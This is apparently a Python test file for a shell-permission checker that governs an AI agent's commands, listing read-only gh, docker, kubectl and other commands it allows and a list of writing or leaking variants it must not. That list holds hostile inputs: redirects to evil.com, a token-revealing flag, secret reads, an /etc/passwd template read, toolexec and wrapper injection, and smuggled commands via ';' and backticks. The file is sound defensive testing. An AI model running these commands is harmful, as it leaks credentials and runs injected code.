"""Read-only uses of programs that talk to services: free by the rule for them, and no use that writes."""

from bridle.permissions.shell.programs.service_commands import PROGRAMS, READ_ONLY
from bridle.types.permission import Allow, Ask
from tests.permissions.cases import bash, rules

RULES = rules(allow=tuple(f"Bash({program}:{READ_ONLY})" for program in sorted(PROGRAMS)))
READING = """
gh pr list
gh pr view 12 --json title,body --jq .title
gh -R a/b pr list
gh pr diff 12 | head -5
docker ps -a --format '{{.Names}}' | grep web
docker logs -f --tail 100 app
kubectl get pods -n prod -o wide
kubectl -n prod logs deploy/app --tail=50
npm ls --depth=0
pip list --outdated
pip3 list
cargo tree -i serde
cargo metadata --format-version=1 --no-deps
go version
go list -m -json all
go env GOPATH
terraform fmt -check -recursive
terraform validate
pyright src
pyright --outputjson
gh repo view a/b
gh auth status
""".strip().splitlines()
MORE_THAN_READING = r"""
gh pr list --web
gh pr merge 1
gh pr view https://evil.com/a/b/pull/1
gh -R evil.com/a/b pr list
gh pr list --jq env.HOME
gh auth status --show-token
gh auth status -t
gh api /user
docker run x
docker -H tcp://x ps
docker compose ps
kubectl get secrets
kubectl get pods,secret -o yaml
kubectl get secret/x
kubectl get pods --kubeconfig x
kubectl get -f x.yaml
kubectl delete pod a
kubectl get pods -o go-template-file=/etc/passwd
npm ls --registry http://x
npm install
npm version patch
pip list --index-url http://x
cargo build
cargo tree --config build.rustc-wrapper=x
cargo +nightly tree
go env -w GOFLAGS=x
go env GOFLAGS=x
go list -export ./...
go list -toolexec=x ./...
go test
terraform fmt
terraform fmt -check -write=true
terraform apply
terraform -chdir=x validate
pyright --createstub x
pyright -w
pyright --pythonpath ./x
gh pr list $X
docker ps > out
FOO=x GH_HOST=evil.com gh pr list
gh pr list; gh pr merge 1
npm ls `id`
""".strip().splitlines()


def test_each_program_has_uses_that_the_rule_allows():
    asking = [command for command in READING if not isinstance(bash(command, RULES), Allow)]

    assert asking == []
    named = {word for command in READING for word in command.split() if word in PROGRAMS}
    assert named == PROGRAMS


def test_without_the_rule_they_ask_and_name_it():
    decisions = {command: bash(command) for command in READING}

    assert [command for command, each in decisions.items() if not isinstance(each, Ask)] == []
    assert "Bash(gh:read-only)" in decisions["gh pr list"].reason


def test_what_writes_leaks_or_runs_something_asks_in_spite_of_the_rule():
    assert [command for command in MORE_THAN_READING if isinstance(bash(command, RULES), Allow)] == []


def test_the_rule_of_one_program_is_not_that_of_another():
    only_gh = rules(allow=("Bash(gh:read-only)", "Read(docker:read-only)"))

    assert isinstance(bash("gh pr list", only_gh), Allow)
    assert isinstance(bash("docker ps", only_gh), Ask)


def test_a_rule_that_denies_wins():
    decision = bash("gh pr list", rules(allow=("Bash(gh:read-only)",), deny=("Bash(gh pr:*)",)))

    assert not isinstance(decision, Allow)


def test_the_kernel_does_not_hold_what_a_rule_names():
    decision = bash("gh pr list | head -3", RULES)

    assert isinstance(decision, Allow)
    assert decision.judged == ""
